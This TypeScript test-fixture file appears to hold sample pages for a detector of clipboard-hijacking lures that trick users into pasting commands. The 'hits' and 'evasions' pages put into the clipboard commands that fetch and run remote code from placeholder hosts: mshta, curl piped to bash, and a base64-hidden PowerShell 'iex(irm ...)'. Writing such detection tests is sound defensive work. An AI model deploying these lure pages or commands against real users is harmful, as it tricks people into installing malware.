import type { Examples } from "@doorward/core";
import { encodeBase64 } from "../../text/example-bytes.ts";
import { makePage } from "../example-pages.ts";

/** Pages that do it, and pages that only look like it. */
export const examples: Examples = {
  hits: [
    {
      name: "a check whether one is human",
      delivered: true,
      files: {
        "Verify.html": makePage(
          `<h1>Verify you are human</h1><ol><li>Press Win + R<li>Press Ctrl + V<li>Press Enter</ol><script>navigator.clipboard.writeText("mshta https://check.example/a")</script>`,
        ),
      },
    },
    {
      name: "a microphone to be repaired, by the terminal",
      delivered: true,
      files: {
        "Meeting.html": makePage(
          `<p>Open the Terminal and paste the repair.</p><button onclick="navigator.clipboard.writeText('curl -fsSL https://audio.example/fix | bash')">Copy</button>`,
        ),
      },
    },
    {
      name: "an encoded command by the old way of copying",
      delivered: true,
      files: {
        "Document.html": makePage(
          `<p>To view the document press ⊞ + R, then CTRL+V.</p><script>var area = document.createElement("textarea"); area.value = atob("${encodeBase64("powershell -w hidden -c iex(irm https://view.example/a)")}"); area.select(); document.execCommand("copy")</script>`,
        ),
      },
    },
  ],
  misses: [
    {
      name: "a guide whose button copies what it shows",
      why: "It copies its own text, and says nothing about keys.",
      delivered: true,
      files: {
        "guide.html": makePage(
          `<pre id="c">curl -fsSL https://tool.example/install.sh | sh</pre><script>copy.onclick = function () { navigator.clipboard.writeText(c.textContent) }</script>`,
        ),
      },
    },
    {
      name: "a warning about such pages",
      why: "It copies nothing.",
      delivered: true,
      files: {
        "warning.html": makePage(
          "<p>Never press Win + R and Ctrl + V because a page asks you to verify you are human.</p>",
        ),
      },
    },
    {
      name: "a page that copies an address",
      why: "What it copies starts nothing.",
      delivered: true,
      files: {
        "wallet.html": makePage(
          `<p>Press Ctrl + V in your wallet.</p><script>navigator.clipboard.writeText("0x0000000000000000000000000000000000000001")</script>`,
        ),
      },
    },
  ],
  evasions: [
    {
      name: "instructions in a picture",
      caughtBy: "file/page-copies-command",
      delivered: true,
      files: {
        "Verify.html": makePage(
          `<img src="steps.png" alt=""><script>navigator.clipboard.writeText("mshta https://check.example/a")</script>`,
        ),
      },
    },
  ],
};
